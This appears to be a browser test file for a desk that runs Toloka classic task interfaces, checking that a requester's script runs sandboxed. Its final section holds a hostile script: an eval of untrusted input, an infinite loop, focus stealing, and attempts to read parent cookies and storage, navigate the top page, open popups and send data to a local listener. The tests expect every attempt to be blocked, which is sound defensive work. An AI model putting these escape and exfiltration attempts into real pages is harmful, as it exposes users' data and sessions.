import { once } from "node:events";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import type { Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { JsonObject } from "../../shared/values/json.ts";
import { publicInterfaces } from "../support/worker-view/interfaces.ts";
import { startDeskInBrowser } from "./desk-in-browser.ts";
import { frameOf, openView, withoutRefusals } from "./worker-frame.ts";

const CONTACTS = "5003";
const PHOTO = "5007";
const SHOP = "5008";
const SCRIPTED = "5004";
const FAULTY = "5005";
const HOSTILE_SCRIPT = "5006";

/** Everything that a hostile view asked this server for. */
const reached: string[] = [];
let listener: Server;
let address = "";
beforeAll(async () => {
  listener = createServer((request, response) => {
    reached.push(String(request.url));
    response.end();
  }).listen(0, "127.0.0.1");
  await once(listener, "listening");
  address = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;
});
afterAll(() => {
  listener.closeAllConnections();
  listener.close();
});

const string = { type: "string", required: false, hidden: false };
/** A pool of a public classic interface. */
const publicPool = (id: string, name: string) => {
  const { view_spec, input_spec, output_spec } = publicInterfaces().find(([one]) => one === name)![1];
  const specs = { input_spec, output_spec } as unknown as { input_spec: JsonObject; output_spec: JsonObject };
  return { id, name, ...specs, markup: String(view_spec.markup), script: String(view_spec.script) };
};

/** Uses the methods that Toloka documents, and notes on the page what they gave. */
const METHODS = `
const log = [];
function extend(Parent, make, methods) {
  make.prototype = Object.create(Parent.prototype);
  return Object.assign(make.prototype, methods), make;
}
exports.Task = extend(TolokaHandlebarsTask, function (options) { TolokaHandlebarsTask.call(this, options); }, {
  getTemplateData: function () {
    return _.assign(TolokaHandlebarsTask.prototype.getTemplateData.call(this), { loud: this.getTask().input_values.title.toUpperCase() });
  },
  onRender: function () {
    localStorage.setItem("word", "kept");
    document.cookie = "a=b";
    this.storage.setItem("own", 1);
    const kept = [localStorage.getItem("word"), this.storage.getItem("own"), document.cookie];
    log.push("render " + this.rendered, kept.join(), Object.keys(this.getOptions().specs.output_spec).join());
    log.push(typeof this.getOptions().assignment.getId(), this.getWorkspaceOptions().agent, this._fields.result.length);
    this.show();
  },
  show: function () { $(".log", this.getDOMElement()).text(log.join(" | ")); },
  setSolution: function (solution) {
    TolokaHandlebarsTask.prototype.setSolution.call(this, solution);
    log.push("solution " + JSON.stringify(solution.output_values));
    this.show();
  },
  validate: function (solution) {
    if (solution.output_values.comment === "throw") missing();
    if (solution.output_values.comment) return TolokaHandlebarsTask.prototype.validate.call(this, solution);
    return { task_id: this.getTask().id, errors: { comment: { message: "Say why" } } };
  },
  onKey: function (key) {
    if (key === "c") this.setSolution({ task_id: this.getTask().id, output_values: { comment: "by key" } });
    else TolokaHandlebarsTask.prototype.onKey.call(this, key);
  },
  onDestroy: function () { log.push("destroyed"); },
});
class Suite extends TolokaTaskSuite {
  validate(solutions) { return Promise.resolve(super.validate(solutions)); }
}
exports.TaskSuite = Suite;
`;

const output_spec = {
  result: { type: "string", required: true, hidden: false, allowed_values: ["OK", "BAD"] },
  place: { type: "coordinates", required: false, hidden: false },
};
const desk = startDeskInBrowser([
  publicPool(CONTACTS, "classic-company-contacts"),
  publicPool(PHOTO, "classic-photo-object"),
  publicPool(SHOP, "classic-shop-item"),
  {
    id: SCRIPTED,
    name: "Scripted",
    input_spec: { title: string },
    output_spec: { ...output_spec, comment: string },
    markup: `<b>{{loud}}</b>{{field type="radio" name="result" value="OK" label="Yes" hotkey="1"}}
{{field type="input" name="comment"}}<div class="log"></div>`,
    script: METHODS,
  },
  {
    id: FAULTY,
    name: "Faulty",
    input_spec: { title: string },
    output_spec,
    markup: `<b>{{title}}</b>{{field type="radio" name="result" value="OK" label="Yes"}}`,
    script: "exports.Task = 'it's wrong'",
  },
  {
    id: HOSTILE_SCRIPT,
    name: "Hostile script",
    input_spec: { code: string, note: { type: "string", required: false, hidden: false } },
    output_spec,
    markup: `<p class="log">markup</p>{{field type="radio" name="result" value="OK" label="Yes"}}`,
    script:
      "eval('1'); onmessage = null; exports.Task = class extends TolokaTask { onRender() { eval(this.getTask().input_values.code); } };",
  },
]);

describe("a classic interface's own script", () => {
  const wide = { viewport: { width: 1920, height: 1080 } };
  const answered = (page: Page) => page.getByRole("heading", { name: "Answer" }).locator("..");

  it("runs after a press, checks the answer as on Toloka, and is remembered", async () => {
    const { page, form, complaints } = await desk.visit(wide);
    await form.open(CONTACTS, "?input.url=museum.example&input.title=Museum");
    let frame = await openView(page);
    await page.getByText("The interface has its own script.").waitFor();
    await page.getByRole("button", { name: "Run script" }).click();
    await page.getByText("The interface's own script runs.").waitFor();
    frame = frameOf(page);
    // The script completes the address.
    expect(await frame.getByRole("link", { name: "Перейти на сайт" }).getAttribute("href")).toBe(
      "http://museum.example",
    );
    await frame.getByRole("button", { name: "Submit" }).click();
    await expect.poll(() => frame.getByRole("alert").filter({ hasText: "Required" }).count()).toBe(2);
    await frame.getByRole("checkbox", { name: "Нет контактов" }).check();
    await expect.poll(() => frame.getByRole("textbox", { name: "phone" }).isDisabled()).toBe(true);
    await page.getByText("The interface accepts this answer.").waitFor();
    await frame.getByRole("checkbox", { name: "Нет контактов" }).uncheck();
    await frame.getByRole("textbox", { name: "phone" }).fill("8 800 800 88 88");
    await page.getByText("The interface accepts this answer.").waitFor();
    // Its check removes the empty checkbox before the answer is sent.
    await expect.poll(() => answered(page).locator("pre").textContent()).toBe('{\n  "phone": "8 800 800 88 88"\n}');
    await page.reload();
    await page.getByRole("tab", { name: "Worker's view" }).click();
    await page.getByRole("button", { name: "Stop script" }).waitFor();
    withoutRefusals(complaints);
  });

  it("does not get what is typed in the form, however it takes the focus", async () => {
    const { page, form, complaints } = await desk.visit(wide);
    const text = "the quick brown fox jumps over the lazy dog";
    // What the browser itself does for a script takes effect before it is undone: a letter each time, three times at most.
    const takes = {
      focus: "setInterval(() => document.querySelector('input')?.focus(), 20)",
      // Browsers focus the field themselves.
      validity: `document.body.insertAdjacentHTML('beforeend', '<input required id="needed">');
        setInterval(() => document.querySelector('#needed')?.reportValidity(), 400)`,
    };
    for (const [way, code] of Object.entries(takes)) {
      await form.open(HOSTILE_SCRIPT, `?${new URLSearchParams({ "input.code": code })}`);
      // The tab and the press are remembered.
      if (way === "focus") {
        await openView(page);
        await page.getByRole("button", { name: "Run script" }).click();
      }
      await page.getByText("The interface's own script runs.").waitFor();
      await frameOf(page).getByRole("button", { name: "Submit" }).waitFor();
      await form.field("note").fill("");
      const hasFocus = () => form.field("note").evaluate((field) => document.activeElement === field);
      for (const letter of text) {
        await expect.poll(hasFocus).toBe(true);
        await page.keyboard.type(letter);
        await page.waitForTimeout(30);
      }
      await expect.poll(hasFocus).toBe(true);
      const typed = await form.field("note").inputValue();
      expect([way, text.length - typed.length]).toEqual([
        way,
        way === "focus" ? 0 : expect.toSatisfy((lost) => lost <= 3),
      ]);
    }
    withoutRefusals(complaints);
  });

  it("of a public interface is answered by a key, or by a link, text and a file", async () => {
    const { page, form, complaints } = await desk.visit(wide);
    await form.open(PHOTO, "?input.image=https://example.com/a.png");
    const frame = await openView(page);
    await page.getByRole("button", { name: "Run script" }).click();
    await page.getByText("The interface's own script runs.").waitFor();
    await frame.getByText("in the picture?").click();
    await page.keyboard.press("3");
    await expect.poll(() => answered(page).locator("pre").textContent()).toContain('"result": "404"');
    await page.getByText("The interface accepts this answer.").waitFor();

    await form.open(SHOP, "?input.image=https://example.com/a.png");
    await openView(page);
    await page.getByRole("button", { name: "Run script" }).click();
    await page.getByText("The interface's own script runs.").waitFor();
    await frame.getByRole("button", { name: "Submit" }).click();
    await frame.getByText("Upload photo or mark that there is no photo").waitFor();
    await frame.getByRole("link", { name: "ASOS" }).click();
    await page.getByRole("button", { name: "Cancel" }).click();
    await frame.getByRole("textbox", { name: "found_link" }).fill("https://www.asos.com/p/1");
    await frame.getByRole("button", { name: "Add a sample file" }).click();
    await page.getByText("The interface accepts this answer.").waitFor();
    withoutRefusals(complaints);
  });

  it("finds the documented methods, and its errors are named without stopping the rest", async () => {
    const { page, form, complaints } = await desk.visit(wide);
    await form.open(SCRIPTED, "?input.title=boots");
    const frame = await openView(page);
    await page.getByRole("button", { name: "Run script" }).click();
    await frame.getByText("BOOTS").waitFor();
    await frame.getByText("render true | kept,1, | result,place,comment | undefined | FRONTEND | 1").waitFor();
    await frame.getByRole("button", { name: "Submit" }).click();
    await frame.getByRole("alert").getByText("Say why").waitFor();
    await page.getByText("comment: Say why").waitFor();
    await frame.getByText("BOOTS").click();
    await page.keyboard.press("1");
    await expect.poll(() => frame.getByRole("radio", { name: "Yes" }).isChecked()).toBe(true);
    await frame.getByRole("textbox", { name: "comment" }).fill("laces");
    await page.getByText("The interface accepts this answer.").waitFor();
    await frame.getByRole("textbox", { name: "comment" }).fill("throw");
    await page.getByText("validate: The interface's script failed: missing is not defined").waitFor();
    await frame.getByRole("radio", { name: "Yes" }).focus();
    await page.keyboard.press("c");
    await expect.poll(() => frame.getByRole("textbox", { name: "comment" }).inputValue()).toBe("by key");
    await page.getByText("The interface doesn't accept this answer yet.").waitFor();
    await form.field("title").fill("shoes");
    await frame.getByText("SHOES").waitFor();
    await frame.getByText("| destroyed | render true").waitFor();
    expect(await frame.getByRole("textbox", { name: "comment" }).inputValue()).toBe("by key");

    await form.open(FAULTY, "?input.title=boots");
    await openView(page);
    await page.getByRole("button", { name: "Run script" }).click();
    await page.getByText("script: The interface's script failed:").waitFor();
    await frameOf(page).getByText("boots").waitFor();
    await frameOf(page).getByRole("radio", { name: "Yes" }).check();
    await page.getByText("The interface accepts this answer.").waitFor();
    withoutRefusals(complaints);
  });
});

/** What a requester's script tries, in its own words; it writes on the page what it was let do. */
const ATTACK = (to: string): string => `
const log = this.getDOMElement();
const attempts = {
  parent: () => parent.document.body, top: () => top.document.cookie, navigateTop: () => { top.location.href = "${to}/top"; },
  desk: () => parent.localStorage, indexedDB: () => indexedDB.open("x"), worker: () => new SharedWorker("data:text/javascript,1"),
  fetch: () => fetch("${to}/fetch"), api: () => fetch("/api/session"), module: () => import("${to}/module.js"),
  request: () => new Promise((done, no) => $.get("${to}/request").done(done).fail(no)),
  socket: () => new Promise((done, no) => { const one = new WebSocket("${to.replace("http", "ws")}"); one.onopen = done; one.onerror = no; }),
  events: () => new Promise((done, no) => { const one = new EventSource("${to}/events"); one.onopen = done; one.onerror = no; }),
  code: () => new Promise((done, no) => { const one = document.createElement("script"); one.src = "${to}/code.js"; one.onload = done; one.onerror = no; document.head.append(one); }),
  inline: () => { document.head.append(Object.assign(document.createElement("script"), { text: "window.ran = 1" })); if (!window.ran) throw 0; },
  handler: () => { log.setAttribute("onclick", "window.clicked = 1"); log.click(); if (!window.clicked) throw 0; },
  peer: () => new RTCPeerConnection(),
};
navigator.sendBeacon("${to}/beacon");
document.body.append(Object.assign(document.createElement("iframe"), { src: "${to}/frame" }));
document.body.append(Object.assign(document.createElement("form"), { action: "${to}/form" }));
document.forms[0].submit();
Object.assign(document.createElement("a"), { href: "data:application/octet-stream,x", download: "x" }).click();
for (let count = 0; count < 100; count++) open("${to}/popup");
(async () => {
  const done = [];
  for (const [name, attempt] of Object.entries(attempts)) try { await attempt(); done.push(name); } catch {}
  log.append("let do: [" + done.join() + "]");
})();`;

describe("a hostile script of a classic interface", () => {
  it("without end is removed while the page goes on, and the view starts again without it", async () => {
    const { page, form, complaints } = await desk.visit({ viewport: { width: 1920, height: 1080 } });
    await form.open(HOSTILE_SCRIPT, "?input.code=1");
    const frame = await openView(page);
    await page.getByRole("button", { name: "Run script" }).click();
    await page.getByText("The interface's own script runs.").waitFor();
    await frame.getByText("markup").waitFor();
    await form.field("code").fill("for (;;);");
    await page.getByText("The interface stopped responding and was removed.").waitFor();
    await form.field("code").fill("1");
    await page.getByRole("button", { name: "Stop script" }).click();
    await frame.getByText("markup").waitFor();
    await frame.getByRole("radio", { name: "Yes" }).check();
    await page.getByText("The interface accepts this answer.").waitFor();
    withoutRefusals(complaints);
  });

  it("reaches neither page nor network", async () => {
    const { page, form, complaints } = await desk.visit({ viewport: { width: 1920, height: 1080 } });
    reached.length = 0;
    const downloads: string[] = [];
    page.on("download", (download) => downloads.push(download.url()));
    await form.open(HOSTILE_SCRIPT);
    await form.field("code").fill(ATTACK(address));
    const frame = await openView(page);
    await frame.getByText("markup").waitFor();
    await page.getByRole("button", { name: "Run script" }).click();
    await frame.getByText("let do: []").waitFor();
    // What it wants to open is asked for, once.
    await page.getByText(`Open this link in a new tab? ${address}/popup`).waitFor();
    await page.getByRole("button", { name: "Cancel" }).click();
    expect([reached, downloads, page.context().pages().length]).toEqual([[], [], 1]);
    expect(page.url()).toContain(`/pools/${HOSTILE_SCRIPT}/new`);

    withoutRefusals(complaints);
  });
});
